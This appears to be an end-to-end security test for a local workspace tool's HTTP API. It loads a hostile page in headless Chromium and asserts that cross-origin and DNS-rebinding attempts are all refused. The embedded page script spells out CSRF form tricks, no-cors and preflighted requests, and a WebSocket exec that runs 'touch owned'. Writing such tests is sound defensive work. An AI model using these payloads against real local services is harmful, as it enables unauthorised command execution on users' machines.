/**
 * A web page of somebody else's in a real browser, which tries everything that a page can send to the server: nothing of it is done, and
 * nothing of an answer can be read. The page is told the token too: whoever has stolen it still gets nothing through a browser.
 */
import { mkdir, readFile } from 'node:fs/promises'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { WorkspaceResource } from '../../lib/core/workspace.ts'
import { eventually } from '../support/eventually.ts'
import { ensurePrograms } from '../support/packages.ts'
import { assert, suite } from '../support/suite.ts'
import { tempDir } from '../support/temp.ts'
import { makeRepo, startProcess } from './scene.ts'

/** A name of the attacker's that leads to this machine. */
const REBOUND = 'rebound.example'

interface Tried {
  /** What was tried -> what the page saw: `blocked`, or what it could read. */
  readonly [what: string]: string
}

/** Runs in the page; `api` is the server's address, `token` the right token. */
function attack(api: string, token: string, rebound: string, done: string): string {
  return `
const seen = {}
const body = JSON.stringify({ name: 'owned', backend: 'mock' })
const json = { 'Content-Type': 'application/json' }
const auth = { Authorization: 'Bearer ${token}' }
const read = async (what, run) => {
  try { seen[what] = await Promise.race([run(), new Promise((d) => setTimeout(d, 4000, 'blocked'))]) } catch { seen[what] = 'blocked' }
}
const tell = (r) => r.type === 'opaque' ? 'blocked' : r.text()
const post = (base, more) => fetch(base + '/api/v1/workspaces', { method: 'POST', body, ...more }).then(tell)
const get = (base, path, more) => fetch(base + '/api/v1' + path, more).then(tell)
const element = (tag, src) => new Promise((d) => { const e = document.createElement(tag); e.onload = () => d('loaded'); e.onerror = () => d('blocked'); e.src = src; document.body.append(e) })
const form = (action) => new Promise((d) => {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame)
  const f = document.createElement('form'); f.method = 'POST'; f.enctype = 'text/plain'; f.action = action; f.target = frame.name
  const i = document.createElement('input'); i.name = '{"name":"owned","backend":"mock","x":"'; i.value = '"}'; f.append(i); document.body.append(f)
  frame.onload = () => { try { d(frame.contentDocument.body.innerText || 'blocked') } catch { d('blocked') } }
  f.submit(); setTimeout(d, 2000, 'blocked')
})
const events = (url) => new Promise((d) => { const e = new EventSource(url); e.onopen = () => d('opened'); e.onerror = () => { e.close(); d('blocked') } })
const socket = (url) => new Promise((d) => {
  const s = new WebSocket(url, 'nexus.exec.v1'); s.onerror = () => d('blocked')
  s.onopen = () => s.send(JSON.stringify({ type: 'start', command: ['touch', 'owned'] })); s.onmessage = (m) => d('message ' + m.data)
})
addEventListener('load', async () => {
  const tries = []
  for (const [name, base] of [['direct', '${api}'], ['rebound', '${rebound}']]) {
    const t = (what, run) => tries.push(read(name + ': ' + what, run))
    t('simple GET', () => get(base, '/workspaces'))
    t('GET with the token', () => get(base, '/workspaces', { headers: auth }))
    t('GET with credentials', () => get(base, '/workspaces', { credentials: 'include' }))
    t('GET no-cors', () => get(base, '/workspaces', { mode: 'no-cors' }))
    t('simple POST', () => post(base, { headers: { 'Content-Type': 'text/plain' } }))
    t('POST without a type', () => post(base, {}))
    t('POST no-cors', () => post(base, { mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } }))
    t('preflighted POST', () => post(base, { headers: json }))
    t('preflighted POST with the token', () => post(base, { headers: { ...json, ...auth } }))
    t('preflighted DELETE', () => fetch(base + '/api/v1/workspaces/victim', { method: 'DELETE', headers: { ...json, ...auth } }).then(tell))
    t('beacon', async () => navigator.sendBeacon(base + '/api/v1/workspaces/victim/stop', '{}') ? 'blocked' : 'blocked')
    t('form', () => form(base + '/api/v1/workspaces'))
    t('EventSource', () => events(base + '/api/v1/events'))
    t('WebSocket', () => socket(base.replace('http', 'ws') + '/api/v1/workspaces/victim/exec'))
    t('WebSocket with a token in the URL', () => socket(base.replace('http', 'ws') + '/api/v1/workspaces/victim/exec?token=${token}'))
    t('img', () => element('img', base + '/api/v1/workspaces'))
    t('script', () => element('script', base + '/api/v1/workspaces'))
    t('iframe', () => new Promise((d) => { const f = document.createElement('iframe'); f.src = base + '/api/v1/workspaces'; f.onload = () => { try { d(f.contentDocument.body.innerText || 'blocked') } catch { d('blocked') } }; document.body.append(f); setTimeout(d, 2000, 'blocked') }))
  }
  await Promise.all(tries)
  await fetch('${done}', { method: 'POST', body: JSON.stringify(seen) })
})`
}

/** The attacker's server: its page, and where that tells what it saw. */
async function openAttacker(pageOf: (base: string) => string) {
  let tell: (tried: Tried) => void = () => {}
  const seen = new Promise<Tried>((done) => {
    tell = done
  })
  const answer = async (request: IncomingMessage, response: ServerResponse) => {
    if (request.method === 'POST') {
      const pieces: Buffer[] = []
      for await (const piece of request) pieces.push(piece as Buffer)
      tell(JSON.parse(Buffer.concat(pieces).toString('utf8')))
      return response.end('thanks')
    }
    response.setHeader('Content-Type', 'text/html')
    const own = `http://${request.headers.host}`
    return response.end(`<!doctype html><body><script>${pageOf(own)}</script></body>`)
  }
  const server = createServer((request, response) => void answer(request, response))
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: () =>
      new Promise((done) => {
        server.close(done)
        server.closeAllConnections()
      }),
  }
}

async function browse(folder: string, url: string, until: Promise<Tried>): Promise<Tried> {
  await mkdir(folder)
  const browser = startProcess(
    [
      ...['chromium', '--headless=new', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run'],
      ...['--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-extensions'],
      // the private network's own guard would hide that ours is missing
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights',
      ...[`--user-data-dir=${folder}/profile`, `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`],
      ...['--remote-debugging-port=0', url],
    ],
    { env: { ...process.env, HOME: folder, TMPDIR: folder, XDG_CONFIG_HOME: folder, XDG_CACHE_HOME: folder } },
  )
  const died = browser.ended.then(({ code, stderr }) => {
    throw new Error(`the browser ended with code ${code}\n${stderr.slice(-2_000)}`)
  })
  died.catch(() => undefined) // at the end it is ended
  let timer: NodeJS.Timeout | undefined
  const late = new Promise<never>((_, fail) => {
    timer = setTimeout(() => fail(new Error(`the page told nothing\n${browser.stderr().slice(-2_000)}`)), 40_000)
  })
  try {
    return await Promise.race([until, died, late])
  } finally {
    clearTimeout(timer)
    browser.child.kill('SIGTERM')
    await browser.ended
  }
}

suite('a web page', (test) => {
  test('of another origin can do nothing and read nothing, nor can one whose name leads here', async () => {
    await ensurePrograms({ chromium: 'chromium' })
    await using dir = await tempDir()
    const home = join(dir.path, 'home')
    await mkdir(home, { mode: 0o700 })
    const repo = await makeRepo(join(dir.path, 'repo'))
    const env = { ...process.env, HOME: home, NEXUS_HOME: join(home, '.nexus'), NEXUS_BACKEND: 'mock' }
    const nexus = (...words: string[]) =>
      startProcess([process.execPath, join(process.cwd(), 'dist', 'nexus.js'), ...words], { cwd: repo.path, env })
    const list = async () => {
      const { stdout } = await nexus('list', '--json').ended
      return (JSON.parse(stdout) as { workspaces: WorkspaceResource[] }).workspaces
    }
    assert.is((await nexus('up', 'victim').ended).code, 0)
    const before = await list()
    const server = nexus('serve', '--port', '0')
    try {
      const find = (): string => {
        const found = /http:\/\/127\.0\.0\.1:\d+/.exec(server.stderr())?.[0]
        if (found === undefined) throw new Error(server.stderr())
        return found
      }
      const api = await eventually(find, { timeoutMs: 20_000 })
      const token = (await readFile(join(home, '.nexus', 'run', 'api.token'), 'utf8')).trim()
      const rebound = api.replace('127.0.0.1', REBOUND)
      const attacker = await openAttacker((own) => attack(api, token, rebound, `${own}/seen`))
      try {
        // the server can be used, by a program with the token: what the page cannot do is not for want of a server
        const used = await fetch(`${api}/api/v1/workspaces`, { headers: { Authorization: `Bearer ${token}` } })
        assert.is(used.status, 200)
        // also from a page whose origin has the rebound name, so that to the browser it differs by its port alone
        const url = `http://${REBOUND}:${attacker.port}/`
        const seen = await browse(join(dir.path, 'browser'), url, attacker.seen)
        assert.ok(Object.keys(seen).length >= 36, 'something was not tried')
        const got = Object.entries(seen).filter(([, what]) => what !== 'blocked')
        // a frame shows the refusal to who looks at it; the page that has it cannot read it
        assert.equal(got, [])
      } finally {
        await attacker.close()
      }
      assert.equal(await list(), before, 'something was done')
      const log = (await readFile(join(home, '.nexus', 'logs', 'serve.log'), 'utf8')).trim().split('\n')
      const requests = log.map((line) => JSON.parse(line)).filter(({ event }) => event === 'request')
      assert.ok(requests.length >= 15, `hardly a request came: ${requests.length}`)
      assert.equal(
        requests.filter(({ status }) => ![403, 400].includes(status)),
        [],
        'let in',
      )
    } finally {
      server.child.kill('SIGTERM')
      await server.ended
    }
  }, 500_000)
})
